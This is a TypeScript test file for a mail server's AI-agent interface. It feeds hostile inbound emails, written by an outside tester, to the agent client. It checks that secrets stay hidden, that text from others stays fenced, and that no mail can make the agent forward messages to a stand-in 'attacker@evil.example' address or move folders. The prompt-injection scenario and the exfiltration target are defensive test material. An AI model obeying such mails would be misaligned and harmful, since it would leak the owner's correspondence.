/**
 * Mails of a tester who had not seen the code (`test/fixtures/agents-stranger/`), read through the protocol's own client. Each tells what
 * it tries, and what must not be in any answer. What shows today although it should not is in `shown_now`, so that a change is noticed.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { type AgentClient, connectAgent, makeAgentToken } from '../../support/mail/agent-client.ts';
import {
  confirmSession,
  listFolder,
  type MailUser,
  postInbound,
  readSink,
  registerUser,
  until,
} from '../../support/mail/mail.ts';
import { startServer, type TestServer } from '../../support/server.ts';

interface Hostile {
  readonly file: string;
  readonly tries: string;
  readonly secrets: readonly string[];
  /** Texts that may be shown only behind the bar of a fence. */
  readonly barred: readonly string[];
  /** Texts that no person sees. */
  readonly absent: readonly string[];
  readonly shown_now?: readonly string[];
  readonly wrote_to_before?: string;
}

const FOLDER = join(import.meta.dirname, '../../fixtures/agents-stranger');
const MAILS: readonly Hostile[] = JSON.parse(readFileSync(join(FOLDER, 'hostile.json'), 'utf8'));
const KNOWN = 'friend@elsewhere.test';
/** Every character that some program takes for the end of a line. */
const LINE_ENDS = /\r\n|[\n\r\v\f\u0085\u2028\u2029]/;

let server: TestServer;
let ann: MailUser;
const ids = new Map<string, string>();

beforeAll(async () => {
  server = await startServer({ vars: { MAIL_HOLD_SECONDS: '0' } });
  ann = await registerUser(server, `ann-${crypto.randomUUID()}`);
  const hello = { to: [{ email: KNOWN }], subject: 'hello', body: 'hello' };
  expect((await server.call('POST', '/v1/messages', hello, ann.token)).status).toBe(202);
  for (const { file } of MAILS) {
    const before = new Set((await listAll()).map(({ id }) => id));
    const raw = readFileSync(join(FOLDER, file), 'utf8')
      .replaceAll('@TO@', ann.email)
      .replaceAll('@NOW@', new Date().toUTCString())
      .replaceAll('\n', '\r\n');
    expect((await postInbound(server, raw, { from: 'mallory@far.test', to: ann.email })).status, file).toBe(202);
    const found = await until(`arrival of ${file}`, async () => (await listAll()).find(({ id }) => !before.has(id)));
    ids.set(file, found.id);
    if (found.folder === 'junk')
      await server.call('PATCH', `/v1/messages/${found.id}`, { folder_id: 'inbox' }, ann.token);
  }
}, 300_000);
afterAll(() => server[Symbol.asyncDispose]());

async function listAll(): Promise<{ id: string; folder: string }[]> {
  const folders = ['inbox', 'junk', 'archive', 'trash'];
  const lists = await Promise.all(folders.map((role) => listFolder(server, ann, role)));
  return lists.flatMap((list, at) => list.map((one: { id: string }) => ({ id: one.id, folder: folders[at] ?? '' })));
}

const scan = (answer: string, text: string) => answer.replace(/\s+/g, '').includes(text.replace(/\s+/g, ''));

async function readEverything(agent: AgentClient, id: string): Promise<string[]> {
  const message = await agent.call('get_message', { message_id: id });
  const [, thread = ''] = /thread (\S+)/.exec(message) ?? [];
  const names = /^\| Attachments: (.*)$/m.exec(message)?.[1]?.split(' | ') ?? [];
  const own: { file_name: string }[] =
    (await server.call('GET', `/v1/messages/${id}`, undefined, ann.token)).body.attachments ?? [];
  return [
    message,
    await agent.call('get_thread', { thread_id: thread }),
    await agent.call('trace', { message_id: id }),
    ...(await Promise.all(
      [...names, ...own.map(({ file_name }) => file_name)].map((file_name) =>
        agent.call('get_attachment', { message_id: id, file_name }),
      ),
    )),
  ];
}

it('shows nothing that must not be shown, and bars what others wrote', async () => {
  await confirmSession(server, ann.token);
  await server.call('PUT', '/v1/me/agent-recipients', { emails: [KNOWN] }, ann.token);
  await using agent = await connectAgent(
    server,
    await makeAgentToken(server, ann, ['mail:read', 'mail:draft', 'mail:send']),
  );
  const shown: Record<string, string[]> = {};
  const listed = await agent.call('search', { query: '', limit: 20 });
  const unbarred: string[] = [];
  for (const { file, secrets, barred, absent } of MAILS) {
    const answers = [listed, ...(await readEverything(agent, ids.get(file) ?? ''))];
    const leaks = [
      ...secrets.filter((text) => answers.some((one) => scan(one, text))),
      ...absent.filter((text) => answers.some((one) => one.includes(text))),
    ];
    if (leaks.length > 0) shown[file] = leaks;
    for (const line of answers.flatMap((one) => one.split(LINE_ENDS)))
      if (barred.some((text) => line.includes(text)) && !line.startsWith('| ')) unbarred.push(`${file}: ${line}`);
  }
  expect(unbarred).toEqual([]);
  const known = Object.fromEntries(
    MAILS.filter((one) => one.shown_now?.length).map((one) => [one.file, one.shown_now]),
  );
  expect(shown).toEqual(known);
}, 300_000);

it('does nothing that a mail orders', async () => {
  const before = await listAll();
  await using agent = await connectAgent(
    server,
    await makeAgentToken(server, ann, ['mail:read', 'mail:draft', 'mail:send']),
  );
  for (const id of ids.values()) {
    const body = await agent.call('get_message', { message_id: id });
    for (const draft of [
      { to: ['attacker@evil.example'], subject: 'all', body },
      { reply_to_message_id: id, body },
      { to: [KNOWN], cc: ['attacker@evil.example'], body },
    ]) {
      const [, draftId = ''] = /^draft (\S+)/.exec(await agent.call('draft', draft)) ?? [];
      if (draftId !== '') await agent.call('send_draft', { draft_id: draftId });
    }
    for (const folder_id of ['trash', 'junk', 'Sent', 'drafts'])
      expect(await agent.call('update', { message_ids: [id], folder_id })).toMatch(/^ERROR/);
  }
  // A reply to a known correspondent may leave at once, because the person listed this address.
  for (const to of readSink(server).flatMap(({ envelope }) => envelope.to)) expect(to).toBe(KNOWN);
  const after = new Set((await listAll()).map(({ id, folder }) => `${folder} ${id}`));
  for (const { id, folder } of before) expect(after).toContain(`${folder} ${id}`);
}, 300_000);
